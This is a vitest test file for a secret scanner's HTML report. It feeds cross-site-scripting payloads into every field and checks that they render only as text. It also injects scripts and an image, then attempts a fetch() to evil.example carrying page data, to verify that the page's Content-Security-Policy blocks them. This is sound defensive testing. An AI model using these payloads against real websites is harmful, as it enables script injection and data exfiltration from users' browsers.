import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { html } from "../../../src/cli/views/html/index.ts";
import type { Finding } from "../../../src/model/finding.ts";
import { ANY_SUBJECT } from "../../../src/model/subject-ref.ts";
import { printable } from "../../../src/kit/text/escape.ts";
import { startChromium, type Chromium } from "../../services/chromium.ts";
import type { Page } from "../../support/browser.ts";
import { variableCanaries, Watch } from "../../support/canary.ts";
import { finding, reportWith, trendOf } from "../../support/reports.ts";
import { makeWorld } from "../../support/world.ts";

// Names, labels, paths and messages come from whoever made the container: in the page they are text, whatever they look like.

const HOSTILE: readonly (readonly [what: string, text: string])[] = [
  ["the end of a script", "</script><script>alert(1)</script>"],
  ["the end of a script, spelled otherwise", "</SCRIPT\t\n><svg/onload=alert(2)>"],
  ["an image", '"><img src="https://evil.example/x.png" onerror="alert(3)">'],
  ["a comment that would hide the rest", "<!--<script>"],
  ["a link", "<a href='javascript:alert(4)'>click</a>"],
  ["an attribute", `' onmouseover='alert(5)' x="`],
  ["entities", "&lt;b&gt;&#60;i&#62;&amp;"],
  ["the end of a style, a title, a noscript", "</style></title></noscript></textarea><b>bold</b>"],
  ["an override of the direction", "\u202egnp.exe\u202c \u2066isolate\u2069"],
  ["letters from right to left", "סוד ARABIC سر TOKEN"],
  ["a terminal's sequences", "\u001b[2J\u001b]0;title\u0007\u009b31m"],
  ["NULs and other controls", "a\0b\u0001c\u007fd"],
  ["lone surrogates", "\ud800 \udfff x\udbffy"],
  ["line separators", "one\u2028two\u2029three\nfour\r\nfive"],
  ["names of what every object has", "__proto__"],
  ["a template", "${alert(6)} {{constructor.constructor('alert(7)')()}}"],
  ["something that goes on and on", "x".repeat(5000)],
];

/** A finding that says it everywhere. */
function saying(text: string, at: number): Finding {
  const plain = finding(at);
  return {
    ...plain,
    fingerprint: "7".repeat(32),
    rule: text,
    name: text,
    why: [text],
    unless: text,
    part: { in: "value", path: text, start: null, length: null },
    location: {
      ...plain.location,
      source: text,
      subjectName: text,
      subjectId: text,
      path: text,
    },
    masked: text,
    ignoredBy: text,
    liveness: { state: "unknown", why: text },
    exposure: [text],
  };
}

/** And a report that says it everywhere else. */
function reportSaying(text: string): string {
  const findings = [saying(text, 1), saying(text, 2)];
  return html(
    reportWith(findings, {
      sources: [
        { source: text, subjects: 1, errors: [{ subject: text, about: ANY_SUBJECT, message: text, hint: text }] },
      ],
      advice: [{ source: text, subject: text, texts: [text] }],
      notes: [text],
      ignored: [{ by: text, count: 3 }],
      rotation: Object.fromEntries([[text, { text, url: text }]]),
      scannedAt: text,
    }),
    {
      trend: [...trendOf(2), { ...trendOf(1)[0]!, at: text }],
      since: new Map(findings.map(({ id }) => [id, text])),
      origin: { host: text, engine: text, command: text, user: text, version: text },
    },
  );
}

/** What the page is made of, counted. */
const ELEMENTS = `JSON.stringify([...document.querySelectorAll("*")].reduce((counts, { tagName }) => ({ ...counts, [tagName]: (counts[tagName] ?? 0) + 1 }), {}))`;
const ATTRIBUTES = `[...new Set([...document.querySelectorAll("*")].flatMap((one) => [...one.attributes].map(({ name }) => name)))].filter((name) => name.startsWith("on") || name === "src" || name === "style")`;

let browser: Chromium;
beforeAll(async () => {
  browser = await startChromium();
});
afterAll(async () => browser?.stop());

/** Opens what opens, and turns around what turns. */
async function walk(page: Page): Promise<void> {
  await page.click(".open");
  await page.click("#copies summary");
  await page.evaluate("new Promise((done) => setTimeout(done, 50))");
  await page.click(".turn label:last-child input");
  await page.click("#group");
  await page.click(".open");
  await page.click("#group");
  await page.click(".open");
}

describe("a name that is", () => {
  let plain: string;
  beforeAll(async () => {
    const page = await browser.open(reportSaying("plain"));
    await walk(page);
    plain = await page.evaluate<string>(ELEMENTS);
    page.close();
  });

  it.each(HOSTILE)("%s is text everywhere", async (_what, text) => {
    const written = reportSaying(text);
    expect(written.isWellFormed()).toBe(true);
    // Nothing that a terminal or an editor would obey, should somebody look at the file there.
    expect(written).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
    const page = await browser.open(written);
    await walk(page);
    // The same elements as with a plain name: nothing was added, nothing swallowed.
    expect(await page.evaluate<string>(ELEMENTS)).toBe(plain);
    expect(await page.evaluate(ATTRIBUTES)).toEqual([]);
    const shown = printable(text);
    const texts = await page.evaluate<string>("document.body.textContent");
    expect(texts.split(shown).length).toBeGreaterThan(20);
    expect(await page.evaluate("document.querySelector('.open bdi').textContent")).toBe(shown);
    await page.evaluate(`(() => {
      const search = document.querySelector("#search");
      search.value = ${JSON.stringify(shown.split(/\s/)[0])};
      search.dispatchEvent(new Event("input", { bubbles: true }));
    })()`);
    expect(await page.text("[role=status]")).toBe("1 of 1 secret, in 2 of 2 places");
    await page.size(320, 800);
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(320);
    expect([page.requests, page.complaints, page.dialogs]).toEqual([[], [], []]);
    page.close();
  });

  it.each(HOSTILE.slice(0, 12))("%s is text without a script, too", async (_what, text) => {
    const page = await browser.open(reportSaying(text), { script: false });
    expect(await page.evaluate("document.querySelectorAll('img, svg[onload], b b, a[href^=javascript]').length")).toBe(
      0,
    );
    expect(await page.evaluate("document.querySelector('noscript th[scope=row]').textContent")).toBe(printable(text));
    expect([page.requests, page.complaints, page.dialogs]).toEqual([[], [], []]);
    page.close();
  });
});

describe("the policy", () => {
  it("lets nothing in and nothing out, should something get into the page after all", async () => {
    const text = html(reportWith([finding(0), finding(1)]));
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(text)?.[1] ?? "";
    expect(policy).toMatch(/^default-src 'none'; script-src 'sha256-[\w+/=]{44}'; style-src 'sha256-[\w+/=]{44}';/);
    expect(policy).not.toMatch(/unsafe|https?:|\*|data:/);
    // It stands before all that it must hold for.
    expect(text.indexOf("Content-Security-Policy")).toBeLessThan(text.search(/<style|<script|<title/));
    expect(text).not.toMatch(/<(?:link|img|iframe|object|embed|base|form)\b|@import|url\(|\ssrc=/);
    const page = await browser.open(
      text.replace(
        "<h1>",
        `<script>document.title = "in"</script><img src="https://evil.example/a.png" onerror="document.title = 'in'"><p id="styled" style="color: red">x</p><h1>`,
      ),
    );
    expect(await page.evaluate("document.title")).toMatch(/^unsprawl: /);
    expect(await page.evaluate("document.querySelector('#styled').style.color")).toBe("");
    const out = await page.evaluate(
      "fetch('https://evil.example/?' + document.querySelector('#data').textContent.length).then(() => 'out', () => 'held')",
    );
    expect(out).toBe("held");
    expect(
      await page.evaluate(
        "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'in'; } catch (error) { return error.name; } })()",
      ),
    ).toBe("TypeError");
    expect(page.complaints.length).toBeGreaterThan(3);
    expect(page.complaints.every((one) => /Content Security Policy|TrustedHTML|violates/.test(one))).toBe(true);
    page.close();
  });
});

describe("much", () => {
  it("20,000 findings: few elements, and the filter finds what is in the last of them", async () => {
    const many = Array.from({ length: 20_000 }, (_, at) => finding(at));
    const text = html(
      reportWith(many, {
        sources: [
          {
            source: "docker:",
            subjects: 4000,
            errors: many.slice(0, 3000).map(() => ({ subject: "a", about: ANY_SUBJECT, message: "b", hint: "c" })),
          },
        ],
      }),
    );
    expect(Buffer.byteLength(text)).toBeLessThan(4_000_000);
    const page = await browser.open(text);
    expect(await page.text("[role=status]")).toBe("10,498 of 10,498 secrets, in 20,000 of 20,000 places");
    expect(await page.evaluate("document.querySelectorAll('main *:not(#unread *)').length")).toBeLessThan(3000);
    await page.press("/");
    await page.type(many.at(-1)!.id);
    expect(await page.text("[role=status]")).toBe("1 of 10,498 secrets, in 1 of 20,000 places");
    expect(await page.text("#unread details summary")).toBe("and 2,990 more not read");
    expect(page.complaints).toEqual([]);
    page.close();
  });
});

describe("scan --format html -o FILE", () => {
  it("writes the page, for its owner alone, and no value shows in it, opened or not", async () => {
    const world = makeWorld("unix:///nowhere");
    try {
      const canaries = variableCanaries().filter(({ value }) => !value.includes("\0"));
      const env = canaries.map(({ name, value }) => `${name}=${value}`);
      const documents = ["one", "two"].map((name, at) => ({
        Id: String(at).repeat(64),
        Name: `/${name}`,
        Image: "sha256:x",
        Config: { Env: env },
      }));
      const args = ["scan", "inspect:-", "--min-confidence", "low", "--format", "html", "-o", "report.html"];
      const stdin = JSON.stringify(documents);
      const ran = await world.unsprawl(args, { stdin });
      expect([ran.code, ran.stdout]).toEqual([3, ""]);
      expect(readFileSync(join(world.dir, "report.html"), "utf8")).not.toContain('id="trend"');
      // What is remembered has a trend: this scan's own point, then two.
      for (const code of [3, 0]) expect((await world.unsprawl([...args, "--remember"], { stdin })).code).toBe(code);
      const text = readFileSync(join(world.dir, "report.html"), "utf8");
      const watch = new Watch(canaries);
      expect(watch.find(text)).toEqual([]);
      const page = await browser.open(text);
      expect(await page.texts("#trend tbody tr")).toHaveLength(2);
      await page.evaluate("document.querySelectorAll('.open, summary').forEach((one) => one.click())");
      await page.evaluate("new Promise((done) => setTimeout(done, 50))");
      const shown = await page.evaluate<string>("document.body.innerText");
      for (const { name } of canaries) expect(shown).toContain(name);
      expect(watch.find(shown)).toEqual([]);
      expect([page.requests, page.complaints, page.dialogs]).toEqual([[], [], []]);
      // Whose report it is; and what was remembered is known to a scan that is not, which still fails.
      expect(shown).toContain("unsprawl scan inspect:- --min-confidence low --format html --output report.html");
      expect(shown).toMatch(/\brun by\s+\S+.*, with unsprawl \d/);
      expect((await world.unsprawl(args, { stdin })).code).toBe(3);
      await page.show(readFileSync(join(world.dir, "report.html"), "utf8"));
      expect(await page.texts("#trend tbody tr")).toHaveLength(2);
      expect(new Set(await page.texts(".findings td .state"))).toEqual(new Set(["known"]));
      expect(await page.text(".findings td:nth-child(6) small")).toMatch(/^since \d{4}-\d\d-\d\d$/);
      page.close();
    } finally {
      world.remove();
    }
  });
});
